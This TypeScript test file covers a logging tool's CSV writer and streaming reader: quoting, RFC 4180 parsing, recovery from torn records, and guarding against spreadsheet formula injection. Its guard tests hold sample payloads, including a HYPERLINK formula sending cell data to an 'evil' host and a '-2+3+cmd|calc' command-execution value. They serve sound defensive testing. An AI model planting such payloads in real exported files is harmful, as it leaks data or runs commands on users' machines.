import * as fc from 'fast-check'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import type { Entry } from '../../src/core/types.ts'
import { csvHeader, csvRecord, fromCsv, toCsv } from '../../src/formats/csv.ts'
import { type CsvRecord, createCsvReader, entriesOfCsv, type TornRecord } from '../../src/formats/csvReader.ts'
import { toJson } from '../../src/formats/json.ts'
import { type Cell, COLUMNS, toRow } from '../../src/formats/row.ts'
import { slow } from '../_run/runtime.ts'
import { anyEntries } from './_entries.ts'
import { entry, same } from './_entry.ts'

const test = suite('formats/csv')
const numRuns = slow ? 30 : 300
const LETTERS = ['timestamp', 'b', 'c']

function readAll(pieces: readonly string[]): (CsvRecord | TornRecord)[] {
  const reader = createCsvReader()
  return [...pieces.flatMap((piece) => reader.push(piece)), ...reader.end()]
}

/** The cells of every whole record, and what is torn as one text. */
const shown = (...pieces: string[]): unknown[] =>
  readAll(pieces).map((record) => ('cells' in record ? record.cells : record.torn))

const file = (entries: readonly Entry[], lineEnd = '\r\n'): string =>
  [csvHeader, ...entries.map(toCsv), ''].join(lineEnd)

/** The text in pieces, cut at these places. */
function cut(text: string, places: readonly number[]): string[] {
  const sorted = [0, ...places.map((place) => place % (text.length + 1)), text.length].sort((one, other) => one - other)
  return sorted.slice(1).map((place, index) => text.slice(sorted[index], place))
}

test('writes one record an entry, in the order of the header', () => {
  assert.is(csvHeader, COLUMNS.join(','))
  assert.is(
    toCsv(entry()),
    '2026-11-22T22:35:57.140356+00:00,DEBUG,price,shop/cart,"[""a-1"",2]",,"string, number",,17.5,number,,,,1.2,' +
      ',,,,call,9,4,7,wall,,"[""sku"",""count""]"'
  )
})

const written: [cell: Cell, text: string][] = [
  [null, ''],
  ['', '""'],
  ['plain text', 'plain text'],
  [0, '0'],
  [-1.5e-7, '-1.5e-7'],
  ['a,b', '"a,b"'],
  ['a;b', '"a;b"'],
  ['a\tb', '"a\tb"'],
  ['a\rb', '"a\rb"'],
  ['a\nb', '"a\nb"'],
  ['say "a"', '"say ""a"""'],
  ['"', '""""'],
  [' a', '" a"'],
  ['a\u00a0', '"a\u00a0"'],
  ["it's", "it's"],
  ["'a", `"'a"`]
]

test('quotes a cell that a spreadsheet might take apart', () => {
  for (const [cell, text] of written) assert.is(csvRecord(['a', cell, 'b']), `a,${text},b`)
})

const guarded: [text: string, guard: string][] = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil/?"&A1)', `'=HYPERLINK("http://evil/?"&A1)`],
  ['+48 12', "'+48 12"],
  ['-2+3+cmd|calc', "'-2+3+cmd|calc"],
  ['--5', "'--5"],
  ['-', "'-"],
  ['-0x1', "'-0x1"],
  ['+5', "'+5"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', "'\r=1"],
  ["'=1", "''=1"],
  ["''=1", "'''=1"],
  ["'-5", "''-5"],
  ["'\t", "''\t"],
  ['-5', '-5'],
  ['-1.5e-7', '-1.5e-7'],
  ['-1.5e+21', '-1.5e+21'],
  ["'a", "'a"],
  ["'", "'"],
  ["''", "''"],
  ['a=1', 'a=1'],
  [' =1', ' =1'],
  ['\n=1', '\n=1']
]

test('guards formulas, and takes the guard away again', () => {
  for (const [text, guard] of guarded) {
    const given = entry({ functionName: text, exception: text, version: text })
    assert.equal(shown(`${LETTERS}\n${csvRecord(['a', text, 'b'])}\n`), [['a', guard, 'b']])
    assert.ok(same([...entriesOfCsv([file([given])])], [given]), text)
  }
})

test('leaves the cells of a file without our columns as they are', () => {
  const header = 'timestamp,level,function_name,return_value,return_type,exception,duration_ms\n'
  const cells = "2026-11-22T22:35:57+00:00,ERROR,'=1,None,,no,0.012\n"
  const [read] = entriesOfCsv([header + cells]) as Iterable<Entry>
  assert.equal([read.functionName, read.exception, read.level, read.durationMs], ["'=1", 'no', 'error', 0.012])
  assert.not('returnValue' in read)
})

test('gives back numbers as numbers, texts as texts', () => {
  const given = entry({ durationMs: -1.5e-7, version: '1.10', functionName: '42', spanId: 2 ** 40, extra: { a: '7' } })
  const [read] = entriesOfCsv([file([given])]) as Iterable<Entry>
  assert.ok(same(read, given))
})

test('reads every form of RFC 4180, and what spreadsheets make of it', () => {
  for (const [text, ...records] of [
    ['a,b,c', ['a', 'b', 'c']],
    ['a,b,c\n', ['a', 'b', 'c']],
    ['a,b,c\r\nd,e,f\r\n', ['a', 'b', 'c'], ['d', 'e', 'f']],
    ['"a","b","c"\r\n', ['a', 'b', 'c']],
    [',,\n', [null, null, null]],
    [',,', [null, null, null]],
    ['"",,""\r\n', ['', null, '']],
    ['"a""b","""",""""""\n', ['a"b', '"', '""']],
    ['"a,b","c\r\nd\re\nf","\r"\r\n', ['a,b', 'c\r\nd\re\nf', '\r']],
    ['\n\r\na,b,c\n\n', ['a', 'b', 'c']],
    ['a,b,"c"\r', ['a', 'b', 'c']],
    ['a b, c ,d\re\n', ['a b', ' c ', 'd\re']]
  ] as [string, ...string[][]][]) {
    const whole = `${LETTERS}\r\n${text}`
    assert.equal(shown(whole), records, text)
    assert.equal(shown('', `\ufeff"timestamp",b,c\n${text}`), records, text)
    for (let place = 0; place <= whole.length; place++) assert.equal(shown(...cut(whole, [place])), records, text)
    assert.equal(shown(...whole), records, text)
  }
})

test('gives back any entry, cut anywhere, with either line end', () => {
  const places = fc.array(fc.nat(), { maxLength: 6 })
  fc.assert(
    fc.property(fc.array(anyEntries, { maxLength: 4 }), places, fc.constantFrom('\n', '\r\n'), (given, at, lineEnd) => {
      const read = [...entriesOfCsv(cut(file(given, lineEnd), at))] as Entry[]
      assert.is(read.map(toJson).join('\n'), given.map(toJson).join('\n'))
      assert.ok(same(read, given))
    }),
    { numRuns }
  )
})

test('gives each cell as it was written, with the guard', () => {
  const guardOf = (text: string): string =>
    /^'*[=+\-@\t\r]/.test(text) && !/^-\d+(\.\d+)?(e[+-]\d+)?$/.test(text) ? `'${text}` : text
  fc.assert(
    fc.property(anyEntries, (given) => {
      const expected = toRow(given).map((cell) => (typeof cell === 'string' ? guardOf(cell) : cell && `${cell}`))
      const [record] = readAll([file([given])]) as CsvRecord[]
      assert.equal(
        record.cells.map((cell, index) => (expected[index] === 0 ? Number(cell) : cell)),
        expected
      )
    }),
    { numRuns }
  )
})

test('takes columns in any order, and unknown ones as extra', () => {
  const given = entry({ extra: { a: 1 } })
  const order = [...COLUMNS.keys()].reverse()
  const cells = toRow(given)
  const records = [
    [...order.map((index) => COLUMNS[index]), 'note', 'id'],
    [...order.map((index) => cells[index]), '=n', 5]
  ]
  const [read] = entriesOfCsv([records.map(csvRecord).join('\n')]) as Iterable<Entry>
  assert.ok(same(read, { ...given, extra: { a: 1, note: '=n' } }))
  assert.equal(fromCsv(['function_name'], []).functionName, '')
})

test('takes a header that comes again, also another one, and none where it is ours', () => {
  const [one, two] = [entry({ sequence: 1 }), entry({ sequence: 2 })]
  const python = 'timestamp,level,function_name\n2026-11-22T22:35:57+00:00,INFO,f\n'
  const names = (text: string): string[] =>
    [...entriesOfCsv([text])].map((read) => ('torn' in read ? read.torn : `${read.functionName} ${read.sequence}`))
  assert.equal(names(file([one]) + file([two])), ['price 1', 'price 2'])
  assert.equal(names(python + file([two])), ['f 0', 'price 2'])
  assert.equal(names(file([one]) + python), ['price 1', 'f 0'])
  assert.equal(names(`${toCsv(one)}\r\n${toCsv(two)}`), ['price 1', 'price 2'])
  assert.equal(names('a,b\nc,d\n'), ['a,b'])
})

test('says what is torn, and goes on', () => {
  for (const [text, ...records] of [
    ['a,b\nd,e,f\n', 'a,b', ['d', 'e', 'f']],
    ['a,b,c,d\nd,e,f\n', 'a,b,c,d', ['d', 'e', 'f']],
    ['a"b,c,d\nd,e,f\n', 'a"b,c,d', ['d', 'e', 'f']],
    ['"a"b,c,d\nd,e,f\n', '"a"b,c,d', ['d', 'e', 'f']],
    ['"a"\rb,c,d\nd,e,f\n', '"a"\rb,c,d', ['d', 'e', 'f']],
    ['a,"b\nd,"e",f\ng,h,i\n', 'a,"b', ['d', 'e', 'f'], ['g', 'h', 'i']],
    ['a,"b\nd,e,f\n', 'a,"b', ['d', 'e', 'f']],
    ['a,b,c\nd,"e', ['a', 'b', 'c'], 'd,"e'],
    ['a,b,"', 'a,b,"'],
    ['a,b', 'a,b']
  ] as [string, ...(string | string[])[]][]) {
    const whole = `${LETTERS}\n${text}`
    assert.equal(shown(whole), records, text)
    for (let place = 0; place <= whole.length; place++) assert.equal(shown(...cut(whole, [place])), records, text)
  }
})

test('loses only the record that was torn, wherever that was', () => {
  const stack = 'Error: "a", b\n    at one, two (a.ts:1:1)\n\n    at "three"\n'
  const hurt = entry({ sequence: 2, exception: 'say "a",\n"b"', traceback: stack, extra: { a: 'x' } })
  const others = [
    entry({ sequence: 1, args: ['=1'] }),
    entry({ sequence: 3, traceback: stack }),
    entry({ sequence: 4 })
  ]
  const record = toCsv(hurt)
  // Just behind the last comma the record looks whole; only the names of its parameters are missing.
  const comma = record.lastIndexOf(',"[""sku') + 1
  for (let length = 1; length < record.length; length++) {
    const torn = record.slice(0, length)
    const isOpen = torn.split('"').length % 2 === 0
    for (const end of isOpen ? ['\n', '"\r\n'] : ['\n']) {
      const pieces = cut(file([others[0]]) + torn + end + file(others.slice(1)).slice(csvHeader.length + 2), [
        length * 7
      ])
      const read = [...entriesOfCsv(pieces)]
      const whole = read.filter((one): one is Entry => !('torn' in one))
      const isWhole = torn + end.trim() === record
      const kept = length === comma ? [{ ...hurt, params: [] }] : isWhole ? [hurt] : []
      const expected = [others[0], ...kept, ...others.slice(1)]
      assert.is(whole.map(toJson).join('\n'), expected.map(toJson).join('\n'), torn + end)
      assert.is(read.length - whole.length, kept.length === 0 ? 1 : 0, torn + end)
    }
  }
})

test('reads on in bounded memory and time behind a quote that nobody closed', () => {
  const record = `${toCsv(entry({ args: [1], argTypes: ['number'], params: [] }))}\r\n`.replaceAll('"', '')
  const piece = record.repeat(20_000)
  const reader = createCsvReader()
  reader.push(`${csvHeader}\r\n2026-11-22T22:35:57+00:00,"\r\n`)
  let count = 0
  for (let pushed = 0; pushed < (slow ? 0 : 2 ** 25); pushed += piece.length) {
    for (const one of reader.push(piece)) count += 'cells' in one ? 1 : 0
  }
  if (!slow) assert.ok(count > 100_000, `${count}`)
})

test.run()
